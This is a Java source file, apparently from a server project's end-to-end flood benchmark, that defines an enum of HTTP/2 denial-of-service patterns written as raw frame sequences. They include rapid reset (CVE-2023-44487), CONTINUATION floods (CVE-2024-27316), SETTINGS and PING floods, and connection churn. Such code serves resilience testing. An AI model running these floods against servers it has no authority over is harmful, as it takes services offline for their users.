package dev.capstan.e2e.bench.flood;

import static dev.capstan.e2e.bench.flood.RawHttp2.CONTINUATION;
import static dev.capstan.e2e.bench.flood.RawHttp2.DATA;
import static dev.capstan.e2e.bench.flood.RawHttp2.END_HEADERS;
import static dev.capstan.e2e.bench.flood.RawHttp2.END_STREAM;
import static dev.capstan.e2e.bench.flood.RawHttp2.HEADERS;
import static dev.capstan.e2e.bench.flood.RawHttp2.PING;
import static dev.capstan.e2e.bench.flood.RawHttp2.RST_STREAM;
import static dev.capstan.e2e.bench.flood.RawHttp2.SETTINGS;
import static dev.capstan.e2e.bench.flood.RawHttp2.WINDOW_UPDATE;

import java.io.EOFException;
import java.io.IOException;
import java.util.Arrays;

/** What is done over and over on a connection, and again on the next when that is cut. */
public enum Attack {
  /** Streams that are opened and reset at once (CVE-2023-44487). */
  RAPID_RESET {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      int stream = 2 * turn + 1;
      to.frame(HEADERS, END_HEADERS, stream, call);
      to.frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
    }
  },
  /** Calls without end, each complete. */
  NEW_STREAMS {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      int stream = 2 * turn + 1;
      to.frame(HEADERS, END_HEADERS, stream, call);
      to.frame(DATA, END_STREAM, stream, new byte[5]);
    }
  },
  SETTINGS_FLOOD {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      to.frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, (byte) (turn & 1)});
    }
  },
  PING_FLOOD {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      to.frame(PING, 0, 0, new byte[8]);
    }
  },
  WINDOW_UPDATES {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      to.frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
    }
  },
  /** A request that never ends and never says anything. */
  EMPTY_DATA {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      if (turn == 0) {
        to.frame(HEADERS, END_HEADERS, 1, call);
      }
      to.frame(DATA, 0, 1, new byte[0]);
    }
  },
  /** Headers that never end (CVE-2024-27316). */
  CONTINUATIONS {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      if (turn == 0) {
        to.frame(HEADERS, 0, 1, call);
      }
      to.frame(CONTINUATION, 0, 1, new byte[0]);
    }
  },
  /** Large headers, call after call. */
  LARGE_HEADERS {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      byte[] large = Arrays.copyOf(call, call.length + LARGE.length);
      System.arraycopy(LARGE, 0, large, call.length, LARGE.length);
      to.frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, large);
    }
  },
  /** Connections that say hello and go. */
  RECONNECTS {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) throws IOException {
      to.flush();
      throw new EOFException("enough of this connection");
    }
  },
  /** Connections that say nothing, and stay. */
  SILENCE {
    @Override
    public void repeat(RawHttp2 to, int turn, byte[] call) {}
  };

  private static final byte[] LARGE = RawHttp2.headers("/", "x-large", "x".repeat(12_000));

  /**
   * Once more.
   *
   * @param turn on this connection, from 0
   * @param call the headers of a call
   */
  public abstract void repeat(RawHttp2 to, int turn, byte[] call) throws IOException;
}
